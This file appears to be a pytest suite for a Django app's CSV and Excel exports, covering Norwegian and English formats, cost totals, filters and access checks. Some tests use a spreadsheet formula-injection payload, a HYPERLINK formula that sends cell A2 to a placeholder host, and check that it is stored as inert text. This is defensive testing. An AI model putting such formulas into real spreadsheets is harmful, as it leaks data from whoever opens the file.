"""Exports in the person's language (core.exports.csv_format): a Norwegian CSV (`;`, BOM,
CRLF, decimal comma) or a standard one in English (`,`, no BOM, decimal point), for the
activity export and the dashboards' tables; the activity export's cost total; and the activity
list as an Excel workbook with typed cells, the same columns, filters and access rule."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from activities.tests.factories import ActivityCostFactory, ActivityFactory, ParticipationFactory
from core.exports import NORWEGIAN_CSV, STANDARD_CSV, csv_format
from core.periods import OSLO
from governance.models import CooperationArea
from governance.tests.factories import UserFactory
from schools.tests.factories import EnrolmentFactory, PupilFactory
from ungmusikk.dashboards.tables import INT, MONEY, PERCENT, TEXT, Column, Table, table_csv

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2;"x")'
ENGLISH = {"HTTP_ACCEPT_LANGUAGE": "en"}
NORWEGIAN = {"HTTP_ACCEPT_LANGUAGE": "nb"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _workbook_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def areas(db):
    """As activities/tests/conftest.py: the cooperation areas by number."""
    return {area.number: area for area in CooperationArea.objects.all()}


@pytest.fixture
def romerike_activity(network, areas):
    """As activities/tests/conftest.py: a regional gathering in Romerike."""
    activity = ActivityFactory(
        title="Samspill Romerike",
        kind="gathering",
        level="regional",
        region=network.romerike,
        starts_at=datetime(2019, 10, 19, 10, 0, tzinfo=OSLO),
        ends_at=datetime(2019, 10, 19, 14, 0, tzinfo=OSLO),
        areas=[areas[3]],
    )
    ParticipationFactory(activity=activity, school=network.school_b, pupils=6, teachers=2)
    return activity


@pytest.fixture
def costly_activity(network, areas):
    """A Follo activity on 12 October 2019, 10:00–15:00 Oslo time, with two costs of
    7 500,50 and 1 000 kroner (8 500,50 in all) and 4 pupils and a teacher of school A."""
    activity = ActivityFactory(
        title="Mesterklasse fiolin",
        region=network.follo,
        starts_at=datetime(2019, 10, 12, 10, 0, tzinfo=OSLO),
        ends_at=datetime(2019, 10, 12, 15, 0, tzinfo=OSLO),
        areas=[areas[2]],
    )
    ParticipationFactory(activity=activity, school=network.school_a, pupils=4, teachers=1)
    ActivityCostFactory(activity=activity, amount=Decimal("7500.50"))
    ActivityCostFactory(activity=activity, amount=Decimal("1000.00"), category="travel")
    return activity


# --- Which format for which language --------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "expected"),
    [("nb", NORWEGIAN_CSV), ("nn", NORWEGIAN_CSV), ("no", NORWEGIAN_CSV), ("nb-NO", NORWEGIAN_CSV)]
    + [("en", STANDARD_CSV), ("en-GB", STANDARD_CSV), ("de", STANDARD_CSV)],
)
def test_the_language_chooses_the_csv_format(language, expected):
    with translation.override(language):
        assert csv_format() is expected
    assert csv_format(language) is expected


def test_no_active_language_is_norwegian():
    with translation.override(None):
        assert csv_format() is NORWEGIAN_CSV


def test_numbers_are_written_with_the_language_s_decimal_separator():
    assert [NORWEGIAN_CSV.money_text(Decimal("8500.5")), STANDARD_CSV.money_text(Decimal("8500.5"))] == [
        "8500,50",
        "8500.50",
    ]
    assert [NORWEGIAN_CSV.money_text(1000), STANDARD_CSV.money_text(1000)] == ["1000", "1000"]
    assert [NORWEGIAN_CSV.decimal_text(0.35, 1), STANDARD_CSV.decimal_text(0.35, 1)] == ["0,4", "0.4"]


# --- The activity export as CSV ---------------------------------------------------------------


def test_activity_export_in_norwegian(client_as, coord_follo, costly_activity):
    content = _content(client_as(coord_follo).get(reverse("activities:export"), **NORWEGIAN))

    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0].split(";")[-1] == "kostnader (kr)"
    assert lines[1] == (
        f"{costly_activity.pk};Mesterklasse fiolin;Mesterklasse;Sentral;Gjennomført;Follo;2;"
        "12.10.2019 10:00;12.10.2019 15:00;;;;1;4;1;8500,50"
    )
    assert lines[2:] == [""]


def test_activity_export_in_english(client_as, coord_follo, costly_activity):
    content = _content(client_as(coord_follo).get(reverse("activities:export"), **ENGLISH))

    assert not content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    assert len(rows[0]) == 16
    assert rows[1][0] == str(costly_activity.pk)
    assert rows[1][7:9] == ["2019-10-12 10:00", "2019-10-12 15:00"]
    assert rows[1][12:] == ["1", "4", "1", "8500.50"]
    assert content.decode().split("\r\n")[1].endswith(",1,4,1,8500.50")


def test_activity_export_follows_the_language_cookie(client_as, coord_follo, costly_activity, settings):
    client = client_as(coord_follo)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    assert (
        _content(client.get(reverse("activities:export"), **NORWEGIAN)).decode().split("\r\n")[1].endswith(",8500.50")
    )


def test_activity_export_totals_no_costs_as_zero(client_as, coord_follo, network):
    activity = ActivityFactory(region=network.follo)

    lines = _content(client_as(coord_follo).get(reverse("activities:export"), **NORWEGIAN)).decode().split("\r\n")

    assert lines[1].startswith(f"{activity.pk};")
    assert lines[1].endswith(";0")


def test_activity_export_writes_a_formula_title_as_text_in_english_too(client_as, coord_follo, network):
    activity = ActivityFactory(region=network.follo, title=HYPERLINK)

    content = _content(client_as(coord_follo).get(reverse("activities:export"), **ENGLISH))

    row = next(row for row in csv.reader(io.StringIO(content.decode())) if row[0] == str(activity.pk))
    assert row[1] == "'" + HYPERLINK


# --- A dashboard table as CSV -----------------------------------------------------------------

TABLE = Table(
    "proever",
    "Prøve",
    [Column("name", "Navn"), Column("count", "Antall", INT), Column("money", "Kroner", MONEY)]
    + [Column("share", "Andel (%)", PERCENT), Column("note", "Merknad", TEXT)],
    [{"name": "Skole A", "count": 3, "money": Decimal("7500.50"), "share": 12.25, "note": HYPERLINK}]
    + [{"name": "Skole B", "count": 0, "money": Decimal("1000"), "share": None, "note": ""}],
)


def test_a_table_in_norwegian_is_as_before():
    with translation.override("nb"):
        assert table_csv(TABLE) == (
            "\ufeffNavn;Antall;Kroner;Andel (%);Merknad\r\n"
            'Skole A;3;7500,50;12,2;"\'=HYPERLINK(""http://example.invalid/?d=""&A2;""x"")"\r\n'
            "Skole B;0;1000;;\r\n"
        )


def test_a_table_in_english_is_a_standard_csv():
    with translation.override("en"):
        assert table_csv(TABLE) == (
            "Navn,Antall,Kroner,Andel (%),Merknad\r\n"
            'Skole A,3,7500.50,12.2,"\'=HYPERLINK(""http://example.invalid/?d=""&A2;""x"")"\r\n'
            "Skole B,0,1000,,\r\n"
        )


@pytest.fixture
def school_year_figures(network, areas):
    """School A in 2019/20: 400 pupils (GSI), 2 named pupils in one activity (0,5 %)."""
    EnrolmentFactory(school=network.school_a, school_year=2019, pupils=400)
    activity = ActivityFactory(
        region=network.follo,
        starts_at=datetime(2019, 10, 12, 10, tzinfo=OSLO),
        ends_at=datetime(2019, 10, 12, 12, tzinfo=OSLO),
        areas=[areas[2]],
    )
    pupils = [PupilFactory(birth_year=2006, schools=[network.school_a]) for _ in range(2)]
    ParticipationFactory(activity=activity, school=network.school_a, pupils=3, teachers=0).named_pupils.set(pupils)


@pytest.mark.parametrize(
    ("headers", "bom", "delimiter", "decimal", "first"),
    [(NORWEGIAN, "\ufeff", ";", ",", "Skoleår"), (ENGLISH, "", ",", ".", "School year")],
)
def test_dashboard_csv_in_the_visitor_s_language(
    headers, bom, delimiter, decimal, first, client_as, rector_a, school_year_figures
):
    response = client_as(rector_a).get(
        reverse("schools:dashboard-csv", args=["skole-a", "skoleaar"]), {"skoleaar": 2019}, **headers
    )

    text = response.content.decode("utf-8")
    assert text.startswith(bom + first + delimiter)
    rows = list(csv.reader(io.StringIO(text[len(bom) :]), delimiter=delimiter))
    row = next(row for row in rows[1:] if row[0] == "2019/20")
    assert row[-2:] == ["400", f"0{decimal}5"]  # 2 named pupils of 400: 0.5 %


# --- The activity list as an Excel workbook ---------------------------------------------------


def test_xlsx_has_the_csv_s_columns_and_typed_cells(client_as, coord_follo, costly_activity):
    client = client_as(coord_follo)
    response = client.get(reverse("activities:export-xlsx"))

    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == 'attachment; filename="aktiviteter.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = (list(cells) for cells in sheet.iter_rows(max_row=2))
    csv_header = _content(client.get(reverse("activities:export"))).decode("utf-8-sig").split("\r\n")[0]
    assert [cell.value for cell in header] == csv_header.split(";")
    assert header[-1].value == "kostnader (kr)"
    values = {cell.column_letter: cell for cell in row}
    assert (values["A"].value, values["A"].data_type) == (costly_activity.pk, "n")
    assert isinstance(values["A"].value, int)
    assert (values["B"].value, values["B"].data_type) == ("Mesterklasse fiolin", "s")
    # 10:00 in Oslo (UTC+2 in October), written as the naive local time Excel shows.
    assert values["H"].value == datetime(2019, 10, 12, 10, 0)
    assert values["H"].is_date
    assert values["H"].number_format == "dd.mm.yyyy hh:mm"
    assert values["I"].value == datetime(2019, 10, 12, 15, 0)
    assert [values[column].value for column in "MNO"] == [1, 4, 1]
    assert all(isinstance(values[column].value, int) for column in "MNO")
    assert Decimal(str(values["P"].value)) == Decimal("8500.50")
    assert isinstance(values["P"].value, float | Decimal)
    assert values["P"].number_format == "#,##0.00"
    assert values["J"].value is None  # no venue: an empty cell


def test_xlsx_stores_a_formula_title_as_text(client_as, coord_follo, network):
    activity = ActivityFactory(region=network.follo, title=HYPERLINK, instrument="@SUM(A1:A9)")

    rows = _workbook_rows(client_as(coord_follo).get(reverse("activities:export-xlsx")))

    row = next(row for row in rows[1:] if row[0].value == activity.pk)
    assert (row[1].value, row[1].data_type) == (HYPERLINK, "s")
    assert (row[11].value, row[11].data_type) == ("@SUM(A1:A9)", "s")


def test_xlsx_drops_characters_a_workbook_cannot_hold(client_as, coord_follo, network):
    activity = ActivityFactory(region=network.follo, title="Samspill\x00\x07 vår")

    rows = _workbook_rows(client_as(coord_follo).get(reverse("activities:export-xlsx")))

    assert [row[1].value for row in rows[1:] if row[0].value == activity.pk] == ["Samspill vår"]


def test_xlsx_applies_the_list_s_filters(client_as, coord_follo, costly_activity, romerike_activity):
    client = client_as(coord_follo)

    for query, titles in [
        ({"region": costly_activity.region.pk}, ["Mesterklasse fiolin"]),
        ({"region": romerike_activity.region.pk}, ["Samspill Romerike"]),
        ({"kind": "gathering"}, ["Samspill Romerike"]),
        ({"q": "fiolin"}, ["Mesterklasse fiolin"]),
    ]:
        rows = _workbook_rows(client.get(reverse("activities:export-xlsx"), query))
        assert [row[1].value for row in rows[1:]] == titles, query


def test_the_list_links_both_exports_with_its_filters(client_as, coord_follo, costly_activity):
    html = client_as(coord_follo).get(reverse("activities:list"), {"region": costly_activity.region.pk}).content

    query = f"?region={costly_activity.region.pk}"
    assert f'href="{reverse("activities:export")}{query}"'.encode() in html
    assert f'href="{reverse("activities:export-xlsx")}{query}"'.encode() in html
    assert b"Last ned som Excel (.xlsx)" in html


@pytest.mark.parametrize("name", ["activities:export", "activities:export-xlsx"])
def test_exports_send_an_anonymous_visitor_to_login(name, client, costly_activity):
    url = reverse(name)

    response = client.get(url)

    assert response.status_code == 302
    assert response.url == f"{reverse('login')}?next={url}"


def test_xlsx_refuses_a_user_without_role(client_as, costly_activity):
    assert client_as(UserFactory(username="uten-rolle")).get(reverse("activities:export-xlsx")).status_code == 403


# --- Queries do not grow with the number of activities ----------------------------------------


def _many(network, areas, count):
    for index in range(count):
        activity = ActivityFactory(
            title=f"Aktivitet {index}",
            region=network.follo,
            host_school=network.school_a,
            starts_at=datetime(2019, 10, 1 + index % 28, 10, tzinfo=OSLO),
            ends_at=datetime(2019, 10, 1 + index % 28, 12, tzinfo=OSLO),
            areas=[areas[2], areas[3]],
        )
        ParticipationFactory(activity=activity, school=network.school_a, pupils=3)
        ParticipationFactory(activity=activity, school=network.school_a2, pupils=2)
        ActivityCostFactory(activity=activity, amount=Decimal("100.25"))


def _export_queries(client, name) -> tuple[int, bytes]:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse(name), {"school_year": "2019"})
        content = _content(response)
    return len(queries), content


@pytest.mark.parametrize("name", ["activities:export", "activities:export-xlsx"])
def test_export_queries_do_not_grow_with_the_activities(name, client_as, coord_follo, network, areas):
    client = client_as(coord_follo)
    _many(network, areas, 3)
    few, content = _export_queries(client, name)
    _many(network, areas, 27)
    many, content = _export_queries(client, name)

    assert many == few
    assert few <= 10
    if name == "activities:export":
        lines = content.decode("utf-8-sig").split("\r\n")
        assert len(lines) == 1 + 30 + 1
        assert all(line.endswith(";100,25") for line in lines[1:-1])
    else:
        assert len(load_workbook(io.BytesIO(content)).active["A"]) == 1 + 30
